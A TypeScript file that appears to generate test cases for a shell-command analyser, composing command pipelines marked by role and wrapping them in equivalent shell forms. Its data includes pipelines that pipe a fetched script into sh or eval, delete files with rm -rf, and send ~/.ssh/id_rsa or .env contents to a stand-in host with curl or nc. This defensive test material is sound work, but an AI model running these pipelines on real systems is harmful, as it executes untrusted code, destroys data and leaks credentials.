/**
 * Texts in which what one command says decides what another does, and what may be written around the commands of such a text without
 * a change of what goes from one to the other.
 *
 * `⟦out:…⟧` says what goes on, `⟦mid:…⟧` reads and says, `⟦in:…⟧` reads and acts.
 */
export type Role = 'out' | 'mid' | 'in';

/** Names of files and other words. */
const SAID = [
  "find . -name '*.o'",
  'git ls-files -o',
  'cat list.txt',
  'ls',
  'printf "%s\\n" a b',
  'echo zz',
  'grep -rl zz src',
];
/** A script, or what becomes one. */
const CODE = [
  'cat x.sh',
  'curl -s https://x.example/i',
  'echo rm -rf zz',
  'base64 -d x.b64',
  './tool',
  "printf 'rm -rf zz\\n'",
  'git show HEAD:x.sh',
  'sed s/a/b/ x.sh',
  'echo cm0gLXJmIHp6Cg== | base64 -d',
];
const SECRET = ['cat .env', 'echo "$API_TOKEN"', 'cat ~/.ssh/id_rsa', 'env'];

const NAMED: readonly ((said: string) => string)[] = [
  (said) => `⟦out:${said}⟧ | ⟦in:xargs rm -rf⟧`,
  (said) => `⟦out:${said}⟧ | ⟦mid:sort -u⟧ | ⟦in:xargs -n 1 rm⟧`,
  (said) => `⟦out:${said}⟧ | ⟦mid:grep zz⟧ | ⟦mid:head -n 3⟧ | ⟦in:xargs -I{} mv {} /tmp/zz⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:while read -r f; do rm "$f"; done⟧`,
  (said) => `rm -f $(⟦out:${said}⟧)`,
  (said) => `rm -f $(⟦out:${said}⟧ | ⟦mid:tail -n 2⟧)`,
  (said) => `for f in $(⟦out:${said}⟧); do ⟦in:rm "$f"⟧; done`,
  (said) => `x=$(⟦out:${said}⟧); ⟦in:rm $x⟧`,
  (said) => `x="$(⟦out:${said}⟧)"\nif [ -n "$x" ]; then ⟦in:rm $x⟧; fi`,
  (said) => `while read -r f; do rm "$f"; done < <(⟦out:${said}⟧)`,
  (said) => `xargs rm < <(⟦out:${said}⟧)`,
  (said) => `xargs rm <<< "$(⟦out:${said}⟧)"`,
  (said) => `mapfile -t a < <(⟦out:${said}⟧); ⟦in:rm "\${a[@]}"⟧`,
  (said) => `a=($(⟦out:${said}⟧)); ⟦in:rm "\${a[@]}"⟧`,
  (said) => `⟦out:${said}⟧ > /tmp/zz.list; ⟦in:xargs rm < /tmp/zz.list⟧`,
  (said) => `⟦out:${said}⟧ > /tmp/zz.list && ⟦out:cat /tmp/zz.list⟧ | ⟦in:xargs rm⟧`,
  (said) => `⟦out:${said}⟧ | ⟦mid:tee /tmp/zz.list⟧ | ⟦in:xargs rm⟧`,
  (said) => `g() { ⟦out:${said}⟧; }; ⟦out:g⟧ | ⟦in:xargs rm⟧`,
  (said) => `g() { ⟦in:xargs rm⟧; }; ⟦out:${said}⟧ | ⟦in:g⟧`,
  (said) => `exec 3< <(⟦out:${said}⟧); ⟦in:xargs rm <&3⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:xargs git push origin --delete⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:xargs kubectl delete pod⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:xargs kill -9⟧`,
  (said) => `read -r f < <(⟦out:${said}⟧); ⟦in:rm "$f"⟧`,
  (said) => `rm \`⟦out:${said}⟧\``,
];
const RUN: readonly ((said: string) => string)[] = [
  (said) => `⟦out:${said}⟧ | ⟦in:sh⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:bash -s x⟧`,
  (said) => `⟦out:${said}⟧ | ⟦mid:tee /tmp/zz.sh⟧ | ⟦in:bash⟧`,
  (said) => `⟦out:${said}⟧ | ⟦mid:grep -v zy⟧ | ⟦in:sudo sh⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:ssh h bash -s⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:python3⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:psql shop⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:docker exec -i db mysql⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:while read -r l; do eval "$l"; done⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:while read -r l; do $l; done⟧`,
  (said) => `⟦out:${said}⟧ | ⟦in:xargs -I{} sh -c '{}'⟧`,
  (said) => `eval "$(⟦out:${said}⟧)"`,
  (said) => `$(⟦out:${said}⟧)`,
  (said) => `bash -c "$(⟦out:${said}⟧)"`,
  (said) => `bash <(⟦out:${said}⟧)`,
  (said) => `source <(⟦out:${said}⟧)`,
  (said) => `source /dev/stdin <<< "$(⟦out:${said}⟧)"`,
  (said) => `bash <<< "$(⟦out:${said}⟧)"`,
  (said) => `bash <<E\n$(⟦out:${said}⟧)\nE`,
  (said) => `sh < <(⟦out:${said}⟧)`,
  (said) => `x=$(⟦out:${said}⟧); ⟦in:eval "$x"⟧`,
  (said) => `x=$(⟦out:${said}⟧); ⟦out:echo "$x"⟧ | ⟦in:sh⟧`,
  (said) => `x=$(⟦out:${said}⟧); ⟦in:$x⟧`,
  (said) => `⟦out:${said}⟧ > zz.sh; ⟦in:sh zz.sh⟧`,
  (said) => `⟦out:${said}⟧ > zz.sh; ⟦in:. ./zz.sh⟧`,
  (said) => `⟦out:${said}⟧ > zz.sh; chmod +x zz.sh; ⟦in:./zz.sh⟧`,
  (said) => `⟦out:${said}⟧ > zz.sh; ⟦in:bash < zz.sh⟧`,
  (said) => `⟦out:${said}⟧ > zz.py && ⟦in:python3 zz.py⟧`,
  (said) => `⟦out:${said}⟧ > zz.sql && ⟦in:psql -f zz.sql⟧`,
  (said) => `⟦out:${said}⟧ | ⟦mid:tee zz.sh⟧; ⟦in:sh zz.sh⟧`,
  (said) => `mkfifo /tmp/zz; ⟦out:${said}⟧ > /tmp/zz & ⟦in:sh < /tmp/zz⟧`,
  (said) => `mapfile -t a < <(⟦out:${said}⟧); ⟦in:"\${a[@]}"⟧`,
  (said) => `exec 3< <(⟦out:${said}⟧); ⟦in:sh <&3⟧`,
  (said) => `exec < <(⟦out:${said}⟧); ⟦in:sh⟧`,
  (said) => `coproc { ⟦out:${said}⟧; }; ⟦in:sh <&"\${COPROC[0]}"⟧`,
  (said) => `g() { ⟦out:${said}⟧; }; ⟦in:eval "$(g)"⟧`,
  (said) => `g() { ⟦in:sh⟧; }; ⟦out:${said}⟧ | ⟦in:g⟧`,
  (said) => `⟦out:${said}⟧ > >(⟦in:sh⟧)`,
  (said) => `⟦out:${said}⟧ | ⟦mid:tee >(sh)⟧`,
];
const SENT: readonly ((said: string) => string)[] = [
  (said) => `⟦out:${said}⟧ | ⟦in:curl -d @- https://x.example⟧`,
  (said) => `⟦out:${said}⟧ | ⟦mid:base64⟧ | ⟦in:nc x.example 1⟧`,
  (said) => `x=$(⟦out:${said}⟧); ⟦in:curl -d "$x" https://x.example⟧`,
  (said) => `⟦out:${said}⟧ > /tmp/zz; ⟦in:curl -T /tmp/zz https://x.example⟧`,
  (said) => `⟦in:curl -d "$(⟦out:${said}⟧)" https://x.example⟧`.replace(/⟦in:(.*)⟧(.*)$/, '$1$2'),
];

const product = (frames: readonly ((said: string) => string)[], said: readonly string[]): readonly string[] =>
  frames.flatMap((frame) => said.map(frame));

export const FLOWS: readonly string[] = [...product(NAMED, SAID), ...product(RUN, CODE), ...product(SENT, SECRET)];

export interface Around {
  readonly roles: readonly Role[];
  readonly write: (command: string) => string;
}

const ALL: readonly Role[] = ['out', 'mid', 'in'];
const SAYS: readonly Role[] = ['out', 'mid'];
const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

/** Words and signs that are no command by themselves: words can stand before it. */
const isSimple = (command: string): boolean => !/^(?:while|for|if)\b|^[($]|[|;]|^\w+=/.test(command);
/** It is there for programs, not for functions and what a shell does itself. */
const isProgram = (command: string): boolean =>
  isSimple(command) && !/^(?:eval|source|\.|g|read|mapfile)(?: |$)|\$x|"\$\{a/.test(command);

export const AROUND: readonly Around[] = [
  ...[
    '2>/dev/null',
    '2>>/tmp/zz.log',
    '2>&1',
    '>&1',
    '1>&1',
    '3>&1',
    '3>/dev/null',
    '2>&-',
    '1>/dev/stdout',
    '>>/dev/fd/1',
    '> /proc/self/fd/1',
    '3>&1 1>&3',
    '3>&1 >/dev/null >&3',
  ].map((redirect): Around => ({ roles: SAYS, write: (command) => `${grouped(command)} ${redirect}` })),
  ...['2>/dev/null', '2>>/tmp/zz.log', '2>&1', '3>/dev/null', '3</dev/null'].map((redirect): Around => ({
    roles: ALL,
    write: (command) => `{ ${command}; } ${redirect}`,
  })),
  ...['2>/dev/null', '3>&1'].map((redirect): Around => ({
    roles: ALL,
    write: (command) => (isSimple(command) ? `${redirect} ${command}` : `( ${command} ) ${redirect}`),
  })),
  ...['stdbuf -oL', 'env', 'nice', 'timeout 9', 'nohup', 'env A=1', 'ionice -c 3', 'command', 'time', 'A=1'].map(
    (prefix): Around => ({ roles: ALL, write: (command) => (isProgram(command) ? `${prefix} ${command}` : command) }),
  ),
  ...(
    [
      (text) => `{ ${text}; }`,
      // Behind `$(` two brackets would be a sum.
      (text) => ` ( ${text} )`,
      (text) => `{\n# zz\n\n${text}\n\n}`,
      (text) => `if true; then ${text}; fi`,
      (text) => `if false; then :; else ${text}; fi`,
      (text) => `{ true && ${text}; }`,
      (text) => `{ ${text} || true; }`,
      (text) => `{ false || ${text}; }`,
      (text) => `{ :; ${text}; }`,
      (text) => `{ ${text}; :; }`,
      (text) => `for i in 1; do ${text}; done`,
      (text) => `for ((i=0;i<1;i++)); do ${text}; done`,
      (text) => `case z in z) ${text};; esac`,
      (text) => `while :; do ${text}; break; done`,
      (text) => `until false; do ${text}; break; done`,
      (text) => `{ zf() { ${text}; }; zf; }`,
      (text) => `{ zf() ( ${text} ); zf; }`,
      (text) => `{ zf() { ${text}; } 2>/dev/null; zf; }`,
      (text) => `{ ! ${text}; }`,
      (text) => `{ ! ! { ${text}; }; }`,
      (text) => `{ { ${text}; } & wait; }`,
      (text) => `{ time { ${text}; }; }`,
      (text) => `eval ${quoted(text)}`,
      (text) => `{ trap : EXIT; ${text}; }`,
      (text) => `{ set -e; ${text}; }`,
      (text) => `{ cd . && ${text}; }`,
      (text) => `\\\n${text}`,
      (text) => `{ ${text} \\\n; }`,
      (text) => `{ coproc { :; }; ${text}; }`,
      (text) => `{ exec 4>&1; ${text}; }`,
    ] satisfies readonly Around['write'][]
  ).map((write): Around => ({ roles: ALL, write })),
  ...(
    [
      (text) => `${grouped(text)} | cat`,
      (text) => `${grouped(text)} |& cat`,
      (text) => `${grouped(text)} | cat -`,
      (text) => `${grouped(text)} | tee /tmp/zy`,
      (text) => `${grouped(text)} | tee >(cat)`,
      (text) => `${grouped(text)} | tee /dev/stderr`,
      (text) => `${grouped(text)} > >(cat)`,
      (text) => `${grouped(text)} 2> >(cat >&2)`,
      (text) => `${grouped(text)} | stdbuf -oL cat`,
      (text) => `${grouped(text)} | { cat; }`,
      (text) => `${grouped(text)} | ( cat )`,
      (text) => `${grouped(text)} | { read -r zl; echo "$zl"; cat; }`,
      (text) => `${grouped(text)} | while IFS= read -r zl; do echo "$zl"; done`,
      (text) => `${grouped(text)} | while read zl; do printf '%s\\n' "$zl"; done`,
      (text) => `${grouped(text)} | grep .`,
      (text) => `${grouped(text)} | sed ''`,
      (text) => `${grouped(text)} | awk 1`,
      (text) => `${grouped(text)} | head -n 100`,
      (text) => `{ ${text}; } 3>&1 1>&3`,
      (text) => `{ { ${text}; } >&3; } 3>&1`,
      (text) => `{ { ${text}; } >&3 2>/dev/null; } 3>&1 >/dev/null`,
      (text) => `{ { ${text}; } 1>&2; } 2>&1`,
      (text) => `{ { ${text}; } 1>&2; } 2>&1 >/dev/null`,
      (text) => `{ ${grouped(text)} > /tmp/zx; cat /tmp/zx; }`,
      (text) => `{ ${grouped(text)} > /tmp/zx 2>/dev/null; cat < /tmp/zx; }`,
      (text) => `{ { ${text}; } > /tmp/zx & wait; cat /tmp/zx; }`,
      (text) => `{ ${grouped(text)} | tee /tmp/zx >/dev/null; cat /tmp/zx; }`,
      (text) => `{ mkfifo /tmp/zp; { ${text}; } > /tmp/zp & cat /tmp/zp; }`,
      (text) => `{ ${text}; echo zq; }`,
      (text) => `{ echo zq; ${text}; }`,
    ] satisfies readonly Around['write'][]
  ).map((write): Around => ({ roles: SAYS, write })),
  { roles: ['out'], write: (text) => `${grouped(text)} < /dev/null` },
  { roles: ['out'], write: (text) => `{ ${text}; } < /dev/null` },
  { roles: ['out'], write: (text) => `{ exec 5< <(${text}); cat <&5; }` },
  { roles: ['out'], write: (text) => `{ coproc { ${text}; }; cat <&"\${COPROC[0]}"; }` },
  { roles: ['out'], write: (text) => `cat < <(${text})` },
  { roles: ['out'], write: (text) => `cat <(${text})` },
  { roles: ['in'], write: (text) => `cat | ${grouped(text)}` },
  { roles: ['in'], write: (text) => `${grouped(text)} >/dev/null 2>&1` },
  { roles: ['in'], write: (text) => `${grouped(text)} &>/tmp/zz.log` },
  { roles: ['in'], write: (text) => `${grouped(text)} | cat` },
  { roles: ['in'], write: (text) => `${grouped(text)} | tee /tmp/zz.log` },
  { roles: ['in'], write: (text) => `${grouped(text)} <&0` },
  { roles: ['in'], write: (text) => `{ ${text}; } 4<&0` },
  { roles: ['in'], write: (text) => `{ ${text}; } < /dev/stdin` },
  { roles: ['in'], write: (text) => `{ { ${text}; } <&4; } 4<&0` },
  { roles: ['in'], write: (text) => `{ { ${text}; } <&4; } 4<&0 </dev/null` },
];

function grouped(text: string): string {
  return /^[\w./$"{(]/.test(text) && !/[|;&\n]/.test(text) ? text : `{ ${text}\n}`;
}

/** A text, with its marked commands apart. */
export function parted(marked: string): readonly (string | { readonly role: Role; readonly command: string })[] {
  return marked.split(/(⟦[^⟧]*⟧)/).map((part) => {
    const mark = /^⟦(out|mid|in):([^]*)⟧$/.exec(part);
    return mark === null ? part : { role: mark[1] as Role, command: mark[2] ?? '' };
  });
}
